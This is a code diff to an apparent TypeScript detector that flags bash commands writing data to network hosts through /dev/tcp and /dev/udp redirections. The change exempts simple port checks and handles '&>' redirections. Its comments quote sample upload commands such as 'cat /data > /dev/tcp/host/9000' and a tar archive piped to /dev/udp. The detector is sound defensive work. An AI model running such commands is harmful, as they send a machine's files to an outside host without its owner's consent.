@@ -161,7 +161,8 @@ function trapped(words: readonly string[]): string | undefined {
 /**
  * The connections a line opens by bash's `/dev/tcp/<host>/<port>` and `/dev/udp/…` to write to
  * (`cat /data > /dev/tcp/host/9000`, `exec 3<>/dev/tcp/host/9000`): each sends what is written
- * to it to the host. One only read from (`< /dev/tcp/…`) sends nothing but its request.
+ * to it to the host. One only read from (`< /dev/tcp/…`), and a port check (`(echo >
+ * /dev/tcp/host/443)`), send nothing but their request.
  */
 function connectionsOf(command: string): Upload[] {
   if (!command.includes("/dev/")) {
@@ -177,11 +178,45 @@ function connectionsOf(command: string): Upload[] {
   for (let i = 1; i < entries.length; i++) {
     const [op, target] = [entries[i - 1], entries[i]];
     const to = typeof target === "string" ? /^\/dev\/(tcp|udp)\/([^/]+)\/./.exec(target) : null;
-    if (to !== null && typeof op === "object" && "op" in op && writes.has(op.op)) {
+    if (
+      to !== null &&
+      typeof op === "object" &&
+      "op" in op &&
+      writes.has(op.op) &&
+      !probes(entries.slice(0, i - 1))
+    ) {
       out.push(hostUpload(`/dev/${to[1]}` as "/dev/tcp" | "/dev/udp", to[2], target as string));
     }
   }
   return out;
+}
+
+/**
+ * Whether the command a redirection to `/dev/tcp` belongs to (the entries before it) writes
+ * nothing of the machine's: none (`> /dev/tcp/h/443`), `:`, `true`, or a bare `echo` — the
+ * port-check idiom `(echo > /dev/tcp/h/443) && echo open`, which sends a newline at most.
+ */
+function probes(before: ReturnType<typeof parse>): boolean {
+  const words: string[] = [];
+  for (let i = before.length - 1; i >= 0; i--) {
+    const e = before[i];
+    if (typeof e !== "string") {
+      if (!("op" in e) || !redirections.has(e.op)) {
+        break;
+      }
+      // A redirection's target is no word of the command.
+      words.pop();
+      continue;
+    }
+    words.unshift(e);
+  }
+  const [name, ...args] = words.filter((w) => !/^\d$/.test(w));
+  return (
+    name === undefined ||
+    name === ":" ||
+    name === "true" ||
+    (name === "echo" && args.every((a) => /^-[neE]+$/.test(a)))
+  );
 }
 
 /** The redirections that write to their target (`>`, `>>`, `<>`, `&>`). */
@@ -196,7 +231,8 @@ export function commandsIn(script: string): string[] {
   const out: string[] = [];
   let current = "";
   let quote: string | undefined;
-  for (const ch of text) {
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
     if (quote !== undefined) {
       current += ch;
       if (ch === quote || ch === "\n") {
@@ -209,7 +245,9 @@ export function commandsIn(script: string): string[] {
       current += ch;
       continue;
     }
-    if (ch === "\n" || ch === ";" || ch === "|" || ch === "&") {
+    // `&>`, `>&` and `<&` redirect (`tar cz /data &>/dev/udp/…`, `2>&1`): no command ends there.
+    const redirects = ch === "&" && (text[i + 1] === ">" || /[<>]$/.test(current));
+    if (ch === "\n" || ch === ";" || ch === "|" || (ch === "&" && !redirects)) {
       out.push(current);
       current = "";
       continue;
